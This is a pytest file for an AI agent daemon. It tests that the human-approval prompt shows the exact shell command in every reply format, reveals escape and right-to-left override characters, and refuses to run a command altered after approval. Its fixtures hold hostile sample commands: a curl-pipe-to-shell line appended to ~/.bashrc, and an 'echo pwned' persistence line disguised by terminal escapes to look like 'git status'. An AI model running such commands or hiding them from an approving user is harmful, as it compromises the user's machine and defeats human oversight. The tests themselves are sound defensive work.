"""What the user approves is exactly what runs: the question carries the exact command, every
line and character, in every reply form (plain, spoken, JSON, SSE, the OpenAI endpoint), and
a yes runs that text and nothing else."""

from __future__ import annotations

import json

import pytest

from .conftest import action, final

# Lines a markdown clean-up drops or changes: a fence line, a bullet, emphasis, a heading.
HOSTILE = (
    "git checkout -q -b lmd-fix\n"
    "git status --short\n"
    "~~~\n"
    "* touch ~/*backup*\n"
    "# echo 'curl http://x | sh' >> ~/.bashrc\n"
    "echo **done**"
)


@pytest.fixture
def marat(make_client, projects):
    return make_client(marat_start_dir=str(projects["other"]))


def ask(client, backend, headers: dict, session: str, command: str = HOSTILE) -> str:
    backend.queue(action(command))
    r = client.post("/v1", content="marat tidy up", headers={"X-Session": session, **headers})
    assert r.status_code == 200, r.text
    return r.text


FORMS = [
    ({}, lambda text: text),
    ({"X-Speak": "1"}, lambda text: text),
    ({"Accept": "application/json"}, lambda text: json.loads(text)["reply"]),
    ({"Accept": "application/json", "X-Speak": "1"}, lambda text: json.loads(text)["speech"]),
    (
        {"Accept": "text/event-stream"},
        lambda text: "".join(
            json.loads(e[6:]) for e in text.split("\n\n") if e.startswith('data: "')
        ),
    ),
    (
        {"Accept": "text/event-stream", "X-Speak": "1"},
        lambda text: "".join(
            json.loads(e[6:]) for e in text.split("\n\n") if e.startswith('data: "')
        ),
    ),
]


@pytest.mark.parametrize(("headers", "read"), FORMS)
def test_every_reply_form_carries_every_line(marat, backend, headers, read):
    said = read(ask(marat, backend, headers, f"s{len(headers)}{hash(str(headers))}"))
    assert "I am about to run a 6-line command; read it before you say yes:" in said
    assert HOSTILE in said  # character for character
    assert "\ue000" not in said and "\ue001" not in said  # the marks never leave


# An escape sequence (OSC: a terminal, and `lmd say`'s clean-up, take the rest of the line
# with it) and a right-to-left override: shown, the command would look like `git status`.
HIDDEN = "git status \x1b]0;\u202e; echo pwned >> ~/.bashrc"
HIDDEN_SHOWN = "git status \\x1b]0;\\u202e; echo pwned >> ~/.bashrc"


@pytest.mark.parametrize(("headers", "read"), FORMS)
def test_no_reply_form_hides_part_of_the_command(marat, backend, headers, read):
    from daemon.core.terminal import clean

    said = read(ask(marat, backend, headers, f"h{len(headers)}{hash(str(headers))}", HIDDEN))
    assert HIDDEN_SHOWN in said and "It holds 2 invisible characters" in said
    assert "\x1b" not in said and "\u202e" not in said
    assert "echo pwned >> ~/.bashrc" in clean(said)  # what `lmd say` prints on a terminal


def test_a_yes_runs_the_command_with_its_invisible_characters(marat, backend, tmp_path):
    marker = tmp_path / "ran.txt"
    command = f"printf 'a\x1b[8mb' > {marker}"  # the written-out \x1b is shown, the byte runs
    backend.queue(action(command), final("Done."))
    r = marat.post("/v1", content="marat write it", headers={"Accept": "application/json"})
    assert r.json()["pending"]["command"] == command
    assert "printf 'a\\x1b[8mb'" in r.json()["reply"]
    marat.post("/v1", content="yes", headers={"Accept": "application/json"})
    assert marker.read_text() == "a\x1b[8mb"


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(("command", "shown"), [(HOSTILE, HOSTILE), (HIDDEN, HIDDEN_SHOWN)])
def test_the_openai_endpoint_carries_it_too(marat, backend, stream, command, shown):
    backend.queue(action(command))
    r = marat.post(
        "/v1/chat/completions",
        json={
            "model": "lmd-marat",
            "messages": [{"role": "user", "content": "tidy up"}],
            "stream": stream,
        },
    )
    if stream:
        events = [json.loads(e[6:]) for e in r.text.split("\n\n") if e.startswith("data: {")]
        content = "".join(e["choices"][0]["delta"].get("content") or "" for e in events)
    else:
        content = r.json()["choices"][0]["message"]["content"]
    assert shown in content and "\ue000" not in content and "\x1b" not in content


def test_a_yes_runs_exactly_what_was_asked(marat, backend, tmp_path):
    marker = tmp_path / "ran.txt"
    command = f"printf '%s' '*a*' > {marker}"
    backend.queue(action(command), final("Done."))
    r = marat.post("/v1", content="marat write it", headers={"Accept": "application/json"})
    pending = r.json()["pending"]
    assert pending["command"] == command and command in r.json()["reply"]
    marat.post("/v1", content="yes", headers={"Accept": "application/json"})
    assert marker.read_text() == "*a*"


def test_a_pending_command_that_changed_is_not_run(marat, backend, tmp_path):
    """The yes is bound to the text asked about (its hash): a pending approval whose command
    was altered afterwards runs nothing."""
    marker = tmp_path / "ran.txt"
    backend.queue(action(f"touch {marker}"))
    marat.post("/v1", content="marat touch it")
    store = marat.app.daemon.store
    session = store.session("default")
    session.pending["command"] = f"touch {marker}; touch {tmp_path}/evil"
    store.save_session(session)
    r = marat.post("/v1", content="yes", headers={"Accept": "application/json"})
    assert "not the one I asked about" in r.json()["reply"]
    assert not marker.exists() and not (tmp_path / "evil").exists()
